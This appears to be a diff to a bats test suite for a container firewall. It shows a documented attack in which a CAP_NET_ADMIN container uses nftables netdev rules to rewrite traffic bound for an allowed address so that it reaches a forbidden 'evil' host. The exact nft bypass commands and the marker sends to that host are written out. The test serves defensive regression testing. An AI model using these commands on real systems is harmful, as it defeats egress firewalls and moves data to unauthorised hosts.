@@ -13,7 +13,11 @@ load helpers
 load firewall_helpers
 load hardening_helpers
 
-setup_file() { fw_setup_file hc; }
+setup_file() {
+	fw_setup_file hc
+	# rawsend (UDP sendto): busybox's nc here has no -u.
+	gcc -O2 -Wall -static -o "$FW_TOOLS/rawsend" "$HD_TOOLS_SRC/rawsend.c"
+}
 teardown_file() { fw_teardown_file; }
 
 setup() {
@@ -208,16 +212,20 @@ userns() {
 
 # The attack the refusal is about (issue 12, class 5). Root in the container with CAP_NET_ADMIN
 # puts nftables netdev rules on its own interface: egress rewrites the destination of packets
-# to an allowed address into a forbidden one, ingress rewrites the answers back. netdev egress
-# runs in dev_queue_xmit, after cgroup_skb/egress, so the firewall saw an allowed packet.
-# Validated with plain runc first (same bundle, same world, no firewall): the marker sent to
-# allowed:8080 arrived at the evil host's catcher and `wget http://198.18.0.10/` got evil.test's
-# page. In a user namespace of its own the same nft commands work on its netns's devices (runc,
-# uid 0 -> 100000: a netdev egress chain on lo was accepted), which is why a user namespace does
-# not make CAP_NET_ADMIN acceptable. Here: without the annotation the container is never created;
-# with it, the firewall still refuses the direct connection but the rewritten one arrives (what
-# accepting the risk means, as documented).
-@test "attack: CAP_NET_ADMIN rewrites allowed traffic to a forbidden host with nftables netdev rules; refused unless accepted" {
+# to an allowed address into a forbidden one (ingress rewrites answers back). netdev egress runs
+# in dev_queue_xmit, after cgroup_skb/egress, which saw an allowed packet; the boundary filter
+# (TCX egress, after netdev egress) passes packets of the container's own sockets as decided.
+# Validated with plain runc first (same bundle, same world, no firewall): a datagram and a TCP
+# stream sent to allowed:8080 arrived at the evil host's catchers, and `wget
+# http://198.18.0.10/` got evil.test's page. Under cgfw-runc with the boundary filter, the
+# forbidden host's answers are dropped by the TCX ingress filter before the nft ingress rewrite,
+# so TCP no longer completes; one-way data (UDP) still leaves, which is what this test shows.
+# In a user namespace of its own the same nft commands work on its netns's devices (runc, uid
+# 0 -> 100000: a netdev egress chain on lo was accepted), which is why a user namespace does not
+# make CAP_NET_ADMIN acceptable. Here: without the annotation the container is never created;
+# with it, the firewall still refuses sending to the forbidden host directly, but the rewritten
+# datagram arrives there (what accepting the risk means, as documented).
+@test "attack: CAP_NET_ADMIN rewrites a datagram to an allowed address into one to a forbidden host (nftables netdev); refused unless accepted" {
 	command -v nft >/dev/null || fail "nft not installed (hack/install-deps.sh installs nftables)"
 	local allow=cgfw.io/allow=$FW_ALLOWED4 r l
 	fwbundle "$TEST_DIR/b" --annotation "$allow" --args "sleep 600"
@@ -233,8 +241,7 @@ userns() {
 		nft add rule netdev cgfwx out ip daddr $FW_ALLOWED4 ip daddr set $FW_EVIL4 || exit 12
 		nft add chain netdev cgfwx in '{ type filter hook ingress device c0 priority 0; }' || exit 13
 		nft add rule netdev cgfwx in ip saddr $FW_EVIL4 ip saddr set $FW_ALLOWED4 || exit 14
-		echo MARKER-REWRITTEN | nc -w 3 $FW_ALLOWED4 8080
-		echo nc=\$?
+		rawsend udp $FW_ALLOWED4 8080 MARKER-REWRITTEN
 	EOF
 	add_caps "$TEST_DIR/b" CAP_NET_ADMIN
 	# Not accepted: never created, nothing to attack from.
@@ -246,9 +253,9 @@ userns() {
 	frt create --bundle "$TEST_DIR/b" "$c"
 	frt start "$c"
 	wait_status "$c" running 10
-	catch tcp "$FW_EVIL4" 8080
-	run cx sh -c "echo MARKER-DIRECT | nc -w 3 $FW_EVIL4 8080"
-	[ "$status" -ne 0 ] || fail "direct connection to the forbidden host not refused: $output"
+	catch udp "$FW_EVIL4" 8080
+	run cx rawsend udp "$FW_EVIL4" 8080 MARKER-DIRECT
+	[ "$status" -ne 0 ] || fail "sending to the forbidden host directly not refused: $output"
 	run cx /attack.sh
 	echo "# attack: rc=$status $output" >&3
 	[ "$status" -eq 0 ] || fail "attack script: rc=$status $output"
@@ -259,8 +266,8 @@ userns() {
 		sleep 0.1
 	done
 	echo "# forbidden host received: $got" >&3
-	[[ $got == *MARKER-REWRITTEN* ]] || fail "the rewritten connection did not arrive (the documented attack no longer works?): $got"
-	[[ $got != *MARKER-DIRECT* ]] || fail "the direct connection arrived: $got"
+	[[ $got == *MARKER-REWRITTEN* ]] || fail "the rewritten datagram did not arrive (the documented attack no longer works?): $got"
+	[[ $got != *MARKER-DIRECT* ]] || fail "the direct datagram arrived: $got"
 }
 
 # The engines' default capability sets keep working (podman's is also run by
